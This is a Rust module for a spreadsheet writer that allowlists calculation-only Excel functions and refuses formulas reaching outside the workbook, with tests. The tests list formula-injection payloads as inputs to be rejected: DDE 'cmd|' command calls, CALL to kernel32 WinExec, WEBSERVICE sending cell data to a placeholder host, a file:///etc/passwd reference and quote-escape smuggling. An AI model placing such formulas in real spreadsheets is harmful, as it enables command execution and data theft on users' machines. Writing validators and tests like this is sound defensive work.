@@ -1,0 +1,396 @@
+//! Which formulas may be written: those that only calculate with the cells of their own workbook.
+//!
+//! A formula is read into tokens, and every token must be known: what opens another file, another program or an address of
+//! the network (`WEBSERVICE`, `[book]sheet!A1`, `cmd|'/c …'!A0`) is refused because it is not on a list, not because it
+//! is on one. Knows no cell but by its notation.
+
+use std::collections::BTreeSet;
+
+/// Brackets within each other; as in Excel.
+const MAX_NESTING: usize = 64;
+
+/// Prefixes of functions that came after the file format, in the order in which they may stand.
+const PREFIXES: [&str; 2] = ["_XLFN.", "_XLWS."];
+
+/// Refuse a formula that could reach outside of its workbook, or that Excel would not read.
+///
+/// `sheets` are the names of the workbook's sheets in lower case. The message names what was found and the way out.
+pub(super) fn check(expression: &str, sheets: &BTreeSet<String>) -> Result<(), String> {
+    if let Some(escape) = escape_of_the_format(expression) {
+        return Err(format!(
+            "a formula without `{escape}` expected, as the file format reads it as another character"
+        ));
+    }
+    let text = expression.trim().trim_start_matches('=');
+    let mut reader = Reader { rest: text, sheets, open: Vec::new(), before: Before::Nothing };
+    while reader.token()? {}
+    match reader.open.last() {
+        None => Ok(()),
+        Some(open) => Err(format!("a formula with a closing `{open}` expected")),
+    }
+}
+
+/// `_x0022_`, which stands for a quotation mark: what follows it would be outside of the text that it seems to be in.
+fn escape_of_the_format(text: &str) -> Option<&str> {
+    let is_escape = |part: &[u8]| matches!(part, [b'_', b'x' | b'X', digits @ .., b'_'] if digits.iter().all(u8::is_ascii_hexdigit));
+    let at = text.as_bytes().windows(7).position(is_escape)?;
+    text.get(at..at + 7)
+}
+
+/// What stands before the place where the reader is.
+#[derive(Clone, Copy, PartialEq)]
+enum Before {
+    Nothing,
+    /// A colon, after which a name of letters is a column.
+    Colon,
+}
+
+struct Reader<'a> {
+    rest: &'a str,
+    sheets: &'a BTreeSet<String>,
+    /// What must close the brackets that are open.
+    open: Vec<char>,
+    before: Before,
+}
+
+impl<'a> Reader<'a> {
+    /// Read one token; false at the end.
+    fn token(&mut self) -> Result<bool, String> {
+        let before = std::mem::replace(&mut self.before, Before::Nothing);
+        let Some(c) = self.rest.chars().next() else { return Ok(false) };
+        match c {
+            ' ' | '\n' | '\r' | '\t' => {
+                self.skip(1);
+                self.before = before;
+            }
+            '"' => self.quoted('"').map(drop)?,
+            '\'' => {
+                let name = self.quoted('\'')?;
+                self.sheet(&name)?;
+            }
+            '#' => self.error_value()?,
+            '(' => self.open(')')?,
+            '{' if !self.open.contains(&'}') => self.open('}')?,
+            ')' | '}' if self.open.pop() == Some(c) => self.skip(1),
+            ';' if self.open.last() != Some(&'}') => {
+                return Err("`,` between arguments expected, got `;`".into());
+            }
+            '+' | '-' | '*' | '/' | '^' | '&' | '=' | '<' | '>' | '%' | ',' | ';' | '@' => {
+                self.skip(1);
+            }
+            ':' => {
+                self.skip(1);
+                self.before = Before::Colon;
+            }
+            '.' | '0'..='9' => self.number(before),
+            '$' | '_' => self.name(before)?,
+            c if c.is_alphabetic() => self.name(before)?,
+            '|' => return Err(format!("{OUTSIDE}, and `|` calls another program")),
+            '[' | ']' => {
+                return Err(format!("{OUTSIDE}, and `{c}` names another workbook or a table"));
+            }
+            c => {
+                return Err(format!(
+                    "a formula in Excel's English notation expected, got `{}`",
+                    c.escape_debug()
+                ));
+            }
+        }
+        Ok(true)
+    }
+
+    fn skip(&mut self, bytes: usize) {
+        self.rest = self.rest.get(bytes..).unwrap_or_default();
+    }
+
+    fn open(&mut self, close: char) -> Result<(), String> {
+        if self.open.len() >= MAX_NESTING {
+            return Err(format!("a formula of at most {MAX_NESTING} levels of brackets expected"));
+        }
+        self.open.push(close);
+        self.skip(1);
+        Ok(())
+    }
+
+    /// The content of a text or of a name in quotation marks, which are doubled within it.
+    fn quoted(&mut self, mark: char) -> Result<String, String> {
+        let mut content = String::new();
+        let mut chars = self.rest.char_indices().skip(1).peekable();
+        while let Some((at, c)) = chars.next() {
+            if c != mark {
+                content.push(c);
+            } else if chars.next_if(|(_, next)| *next == mark).is_some() {
+                content.push(mark);
+            } else {
+                self.skip(at + 1);
+                return Ok(content);
+            }
+        }
+        Err(format!("a formula with a closing `{mark}` expected"))
+    }
+
+    /// The `!` behind the name of a sheet, which must be one of this workbook; or two such names with a colon.
+    fn sheet(&mut self, name: &str) -> Result<(), String> {
+        if !self.rest.starts_with('!') {
+            let name = crate::text::cut_bytes(name, 80);
+            return Err(format!("`!` behind the name `{name}` of a sheet expected"));
+        }
+        // No name of a sheet has a colon.
+        match name.split(':').find(|part| !self.sheets.contains(&part.to_lowercase())) {
+            None => self.skip(1),
+            Some(part) => {
+                let part = crate::text::cut_bytes(part, 80).escape_debug();
+                return Err(format!("{OUTSIDE}, and it has no sheet `{part}`"));
+            }
+        }
+        Ok(())
+    }
+
+    fn error_value(&mut self) -> Result<(), String> {
+        const VALUES: [&str; 7] =
+            ["#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"];
+        let starts = |value: &&&str| {
+            self.rest.get(..value.len()).is_some_and(|start| start.eq_ignore_ascii_case(value))
+        };
+        match VALUES.iter().find(starts) {
+            Some(value) => {
+                self.skip(value.len());
+                Ok(())
+            }
+            None => Err("an error value such as `#N/A` expected behind `#`".into()),
+        }
+    }
+
+    /// A number, or the number of a row. An exponent has its sign with it.
+    fn number(&mut self, before: Before) {
+        let digits =
+            |text: &str| text.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(text.len());
+        self.skip(digits(self.rest));
+        if before == Before::Colon {
+            return;
+        }
+        if let Some(exponent) = self.rest.strip_prefix(['e', 'E']) {
+            let unsigned = exponent.strip_prefix(['+', '-']).unwrap_or(exponent);
+            if unsigned.starts_with(|c: char| c.is_ascii_digit()) {
+                self.rest = unsigned;
+                self.skip(digits(unsigned));
+            }
+        }
+    }
+
+    /// A function, a reference, a sheet, or a logical value.
+    fn name(&mut self, before: Before) -> Result<(), String> {
+        let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.' | '$' | '\\' | '?');
+        let end = self.rest.find(|c| !is_part(c)).unwrap_or(self.rest.len());
+        let (name, rest) = self.rest.split_at(end);
+        let shown = crate::text::cut_bytes(name, 80);
+        if rest.starts_with('!') {
+            self.rest = rest;
+            return self.sheet(name);
+        }
+        // Excel takes blanks between a function and its bracket away.
+        if rest.trim_start().starts_with('(') {
+            if !is_allowed(name) {
+                return Err(format!(
+                    "functions that only calculate expected, got `{shown}`; write its value instead of a formula"
+                ));
+            }
+        } else {
+            let is_followed = rest.trim_start().starts_with(':');
+            let is_known = is_reference(name, is_followed || before == Before::Colon)
+                || ["TRUE", "FALSE"].iter().any(|value| name.eq_ignore_ascii_case(value))
+                // The first of two sheets: `Q1:Q4!A1`.
+                || is_followed && self.sheets.contains(&name.to_lowercase());
+            if !is_known {
+                return Err(format!("{OUTSIDE}, and it has no name `{shown}`"));
+            }
+        }
+        self.rest = rest;
+        Ok(())
+    }
+}
+
+/// The beginning of every message about something that is not in the workbook.
+const OUTSIDE: &str = "a formula over cells of this workbook expected";
+
+fn is_allowed(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    let bare = PREFIXES
+        .iter()
+        .fold(upper.as_str(), |name, prefix| name.strip_prefix(prefix).unwrap_or(name));
+    FUNCTIONS.binary_search(&bare).is_ok()
+}
+
+/// `A1`, `$A$1`, and within a range also `A` and `$1`.
+fn is_reference(name: &str, is_range: bool) -> bool {
+    let rest = name.strip_prefix('$').unwrap_or(name);
+    let letters = rest.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(rest.len());
+    let (column, row) = rest.split_at(letters);
+    let digits = row.strip_prefix('$').unwrap_or(row);
+    let is_column = (1..=3).contains(&column.len());
+    let is_row = (1..=7).contains(&digits.len()) && digits.bytes().all(|b| b.is_ascii_digit());
+    match (column, row) {
+        ("", _) => is_range && is_row,
+        (_, "") => is_range && is_column,
+        _ => is_column && is_row,
+    }
+}
+
+/// Functions of Excel that calculate with their arguments and have no other effect, sorted. Not here: what fetches
+/// (`WEBSERVICE`, `IMAGE`, `RTD`, `STOCKHISTORY`, `CUBE…`, `SQL.REQUEST`, `DDE`), opens (`HYPERLINK`; there are cells of
+/// kind link), runs (`CALL`, `REGISTER.ID`, `EXEC`, `PY`), tells of the machine or the file (`INFO`, `CELL`), takes
+/// text for a reference (`INDIRECT`, which may name another workbook), or defines names (`LET`, `LAMBDA`).
+#[rustfmt::skip]
+const FUNCTIONS: [&str; 483] = [
+    "ABS", "ACCRINT", "ACCRINTM", "ACOS", "ACOSH", "ACOT", "ACOTH", "ADDRESS", "AGGREGATE", "AMORDEGRC", "AMORLINC",
+    "AND", "ARABIC", "ARRAYTOTEXT", "ASC", "ASIN", "ASINH", "ATAN", "ATAN2", "ATANH", "AVEDEV", "AVERAGE", "AVERAGEA",
+    "AVERAGEIF", "AVERAGEIFS", "BAHTTEXT", "BASE", "BESSELI", "BESSELJ", "BESSELK", "BESSELY", "BETA.DIST",
+    "BETA.INV", "BETADIST", "BETAINV", "BIN2DEC", "BIN2HEX", "BIN2OCT", "BINOM.DIST", "BINOM.DIST.RANGE", "BINOM.INV",
+    "BINOMDIST", "BITAND", "BITLSHIFT", "BITOR", "BITRSHIFT", "BITXOR", "CEILING", "CEILING.MATH", "CEILING.PRECISE",
+    "CHAR", "CHIDIST", "CHIINV", "CHISQ.DIST", "CHISQ.DIST.RT", "CHISQ.INV", "CHISQ.INV.RT", "CHISQ.TEST", "CHITEST",
+    "CHOOSE", "CHOOSECOLS", "CHOOSEROWS", "CLEAN", "CODE", "COLUMN", "COLUMNS", "COMBIN", "COMBINA", "COMPLEX",
+    "CONCAT", "CONCATENATE", "CONFIDENCE", "CONFIDENCE.NORM", "CONFIDENCE.T", "CONVERT", "CORREL", "COS", "COSH",
+    "COT", "COTH", "COUNT", "COUNTA", "COUNTBLANK", "COUNTIF", "COUNTIFS", "COUPDAYBS", "COUPDAYS", "COUPDAYSNC",
+    "COUPNCD", "COUPNUM", "COUPPCD", "COVAR", "COVARIANCE.P", "COVARIANCE.S", "CRITBINOM", "CSC", "CSCH", "CUMIPMT",
+    "CUMPRINC", "DATE", "DATEDIF", "DATEVALUE", "DAVERAGE", "DAY", "DAYS", "DAYS360", "DB", "DBCS", "DCOUNT",
+    "DCOUNTA", "DDB", "DEC2BIN", "DEC2HEX", "DEC2OCT", "DECIMAL", "DEGREES", "DELTA", "DEVSQ", "DGET", "DISC", "DMAX",
+    "DMIN", "DOLLAR", "DOLLARDE", "DOLLARFR", "DPRODUCT", "DROP", "DSTDEV", "DSTDEVP", "DSUM", "DURATION", "DVAR",
+    "DVARP", "ECMA.CEILING", "EDATE", "EFFECT", "EOMONTH", "ERF", "ERF.PRECISE", "ERFC", "ERFC.PRECISE", "ERROR.TYPE",
+    "EVEN", "EXACT", "EXP", "EXPAND", "EXPON.DIST", "EXPONDIST", "F.DIST", "F.DIST.RT", "F.INV", "F.INV.RT", "F.TEST",
+    "FACT", "FACTDOUBLE", "FALSE", "FDIST", "FILTER", "FIND", "FINDB", "FINV", "FISHER", "FISHERINV", "FIXED",
+    "FLOOR", "FLOOR.MATH", "FLOOR.PRECISE", "FORECAST", "FORECAST.ETS", "FORECAST.ETS.CONFINT",
+    "FORECAST.ETS.SEASONALITY", "FORECAST.ETS.STAT", "FORECAST.LINEAR", "FORMULATEXT", "FREQUENCY", "FTEST", "FV",
+    "FVSCHEDULE", "GAMMA", "GAMMA.DIST", "GAMMA.INV", "GAMMADIST", "GAMMAINV", "GAMMALN", "GAMMALN.PRECISE", "GAUSS",
+    "GCD", "GEOMEAN", "GESTEP", "GROWTH", "HARMEAN", "HEX2BIN", "HEX2DEC", "HEX2OCT", "HLOOKUP", "HOUR", "HSTACK",
+    "HYPGEOM.DIST", "HYPGEOMDIST", "IF", "IFERROR", "IFNA", "IFS", "IMABS", "IMAGINARY", "IMARGUMENT", "IMCONJUGATE",
+    "IMCOS", "IMCOSH", "IMCOT", "IMCSC", "IMCSCH", "IMDIV", "IMEXP", "IMLN", "IMLOG10", "IMLOG2", "IMPOWER",
+    "IMPRODUCT", "IMREAL", "IMSEC", "IMSECH", "IMSIN", "IMSINH", "IMSQRT", "IMSUB", "IMSUM", "IMTAN", "INDEX", "INT",
+    "INTERCEPT", "INTRATE", "IPMT", "IRR", "ISBLANK", "ISERR", "ISERROR", "ISEVEN", "ISFORMULA", "ISLOGICAL", "ISNA",
+    "ISNONTEXT", "ISNUMBER", "ISO.CEILING", "ISODD", "ISOWEEKNUM", "ISPMT", "ISREF", "ISTEXT", "JIS", "KURT", "LARGE",
+    "LCM", "LEFT", "LEFTB", "LEN", "LENB", "LINEST", "LN", "LOG", "LOG10", "LOGEST", "LOGINV", "LOGNORM.DIST",
+    "LOGNORM.INV", "LOGNORMDIST", "LOOKUP", "LOWER", "MATCH", "MAX", "MAXA", "MAXIFS", "MDETERM", "MDURATION",
+    "MEDIAN", "MID", "MIDB", "MIN", "MINA", "MINIFS", "MINUTE", "MINVERSE", "MIRR", "MMULT", "MOD", "MODE",
+    "MODE.MULT", "MODE.SNGL", "MONTH", "MROUND", "MULTINOMIAL", "MUNIT", "N", "NA", "NEGBINOM.DIST", "NEGBINOMDIST",
+    "NETWORKDAYS", "NETWORKDAYS.INTL", "NOMINAL", "NORM.DIST", "NORM.INV", "NORM.S.DIST", "NORM.S.INV", "NORMDIST",
+    "NORMINV", "NORMSDIST", "NORMSINV", "NOT", "NOW", "NPER", "NPV", "NUMBERVALUE", "OCT2BIN", "OCT2DEC", "OCT2HEX",
+    "ODD", "ODDFPRICE", "ODDFYIELD", "ODDLPRICE", "ODDLYIELD", "OFFSET", "OR", "PDURATION", "PEARSON", "PERCENTILE",
+    "PERCENTILE.EXC", "PERCENTILE.INC", "PERCENTOF", "PERCENTRANK", "PERCENTRANK.EXC", "PERCENTRANK.INC", "PERMUT",
+    "PERMUTATIONA", "PHI", "PI", "PMT", "POISSON", "POISSON.DIST", "POWER", "PPMT", "PRICE", "PRICEDISC", "PRICEMAT",
+    "PROB", "PRODUCT", "PROPER", "PV", "QUARTILE", "QUARTILE.EXC", "QUARTILE.INC", "QUOTIENT", "RADIANS", "RAND",
+    "RANDARRAY", "RANDBETWEEN", "RANK", "RANK.AVG", "RANK.EQ", "RATE", "RECEIVED", "REPLACE", "REPLACEB", "REPT",
+    "RIGHT", "RIGHTB", "ROMAN", "ROUND", "ROUNDDOWN", "ROUNDUP", "ROW", "ROWS", "RRI", "RSQ", "SEARCH", "SEARCHB",
+    "SEC", "SECH", "SECOND", "SEQUENCE", "SERIESSUM", "SHEET", "SHEETS", "SIGN", "SIN", "SINGLE", "SINH", "SKEW",
+    "SKEW.P", "SLN", "SLOPE", "SMALL", "SORT", "SORTBY", "SQRT", "SQRTPI", "STANDARDIZE", "STDEV", "STDEV.P",
+    "STDEV.S", "STDEVA", "STDEVP", "STDEVPA", "STEYX", "SUBSTITUTE", "SUBTOTAL", "SUM", "SUMIF", "SUMIFS",
+    "SUMPRODUCT", "SUMSQ", "SUMX2MY2", "SUMX2PY2", "SUMXMY2", "SWITCH", "SYD", "T", "T.DIST", "T.DIST.2T",
+    "T.DIST.RT", "T.INV", "T.INV.2T", "T.TEST", "TAKE", "TAN", "TANH", "TBILLEQ", "TBILLPRICE", "TBILLYIELD", "TDIST",
+    "TEXT", "TEXTAFTER", "TEXTBEFORE", "TEXTJOIN", "TEXTSPLIT", "TIME", "TIMEVALUE", "TINV", "TOCOL", "TODAY",
+    "TOROW", "TRANSPOSE", "TREND", "TRIM", "TRIMMEAN", "TRUE", "TRUNC", "TTEST", "TYPE", "UNICHAR", "UNICODE",
+    "UNIQUE", "UPPER", "VALUE", "VALUETOTEXT", "VAR", "VAR.P", "VAR.S", "VARA", "VARP", "VARPA", "VDB", "VLOOKUP",
+    "VSTACK", "WEEKDAY", "WEEKNUM", "WEIBULL", "WEIBULL.DIST", "WORKDAY", "WORKDAY.INTL", "WRAPCOLS", "WRAPROWS",
+    "XIRR", "XLOOKUP", "XMATCH", "XNPV", "XOR", "YEAR", "YEARFRAC", "YIELD", "YIELDDISC", "YIELDMAT", "Z.TEST",
+    "ZTEST",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn problem(expression: &str) -> String {
+        let sheets = ["数据", "q1", "q4", "my sheet", "it's"].map(String::from).into();
+        check(expression, &sheets).err().unwrap_or_default()
+    }
+
+    #[test]
+    fn the_list_is_sorted() {
+        assert!(FUNCTIONS.is_sorted_by(|a, b| a < b));
+    }
+
+    #[test]
+    fn formulas_that_only_calculate() {
+        for formula in [
+            "=SUM(A1:B2)",
+            "B2*C2",
+            "=SUBTOTAL(109,$B$2:B14)",
+            "=IF(A1>0,\"a|b [x] WEBSERVICE(\"\"http://x\"\")\",'My Sheet'!B2)",
+            "=数据!A1+Q1!A1+'it''s'!$C$3",
+            "=SUM(Q1:Q4!A1)+SUM('Q1:Q4'!A1)",
+            "=SUM(A:A)/SUM($1:3)*-1.5e+3%",
+            "=_xlfn._xlws.SORT(A1:A9)&_xlfn.CONCAT(A1, \" \")",
+            "=SUMPRODUCT((A1:A9=\"x\")*{1,2;3,4})",
+            "=IFERROR(@A1/B1,#N/A)+TRUE",
+            "= vlookup ( A1 , B:C , 2 , false )",
+            "=STDEV.S(A1:A9)\n+1",
+            "=-(A1)",
+        ] {
+            assert_eq!(problem(formula), "", "{formula}");
+        }
+    }
+
+    #[test]
+    fn formulas_that_reach_outside() {
+        for formula in [
+            "=WEBSERVICE(\"http://x/\"&A1)",
+            "=webservice (\"http://x\")",
+            "=_xlfn.WEBSERVICE(\"http://x\")",
+            "=_XLFN._xlws.WebService(\"http://x\")",
+            "=@WEBSERVICE(\"http://x\")",
+            "={1,2}+SUM(WEBSERVICE(\"x\"))",
+            "=ＷEBSERVICE(\"http://x\")",
+            "=WEB\u{200B}SERVICE(\"http://x\")",
+            "=WEB\u{0}SERVICE(\"http://x\")",
+            "=\"_x0022_&WEBSERVICE(_x0022_http://x_x0022_)&_x0022_\"",
+            "=cmd|'/c calc'!A0",
+            "=cmd |' /c calc'!A0",
+            "=A1+'cmd'|'/c calc'!A0",
+            "=DDE(\"cmd\";\"/c calc\";\"x\")",
+            "=+HYPERLINK(\"http://x\",\"y\")",
+            "=[book.xlsx]Sheet1!A1",
+            "='[book.xlsx]数据'!A1",
+            "='C:\\x\\[book.xlsx]数据'!A1",
+            "='\\\\server\\share\\[b.xlsx]数据'!A1",
+            "='file:///etc/passwd'#$数据.A1",
+            "='http://x/[b.xlsx]数据'!A1",
+            "=other!A1",
+            "=Table1[Column]",
+            "=[1]!name",
+            "=INDIRECT(\"[b]数据!A1\")",
+            "=RTD(\"x\",,\"y\")",
+            "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+            "=REGISTER.ID(\"a\",\"b\")",
+            "=EXEC(\"calc\")",
+            "=IMAGE(\"http://x\")",
+            "=FILTERXML(A1,\"//x\")",
+            "=CELL(\"filename\")",
+            "=INFO(\"directory\")",
+            "=CUBEVALUE(\"c\",\"m\")",
+            "=STOCKHISTORY(\"x\",1)",
+            "=PY(0)",
+            "=LAMBDA(x,x)(1)",
+            "=_xlnm.Print_Area",
+            "=evil",
+            "=SUM(evil)",
+            "=A1#",
+            "=A1;B1",
+            "=(1",
+            "=1)",
+            "={1",
+            "=\"x",
+            "='x",
+            "=SUM(A1}",
+            "={{1}}",
+        ] {
+            assert_ne!(problem(formula), "", "{formula}");
+        }
+        insta::assert_snapshot!(problem("=1+_xlfn.WEBSERVICE(A1)"), @"functions that only calculate expected, got `_xlfn.WEBSERVICE`; write its value instead of a formula");
+        insta::assert_snapshot!(problem("=cmd|'/c calc'!A0"), @"a formula over cells of this workbook expected, and it has no name `cmd`");
+        insta::assert_snapshot!(problem("=[b.xlsx]x!A1"), @"a formula over cells of this workbook expected, and `[` names another workbook or a table");
+    }
+
+    #[test]
+    fn brackets_are_bounded() {
+        let nested = |levels: usize| format!("={}1{}", "(".repeat(levels), ")".repeat(levels));
+        assert_eq!(problem(&nested(64)), "");
+        assert_ne!(problem(&nested(65)), "");
+    }
+}
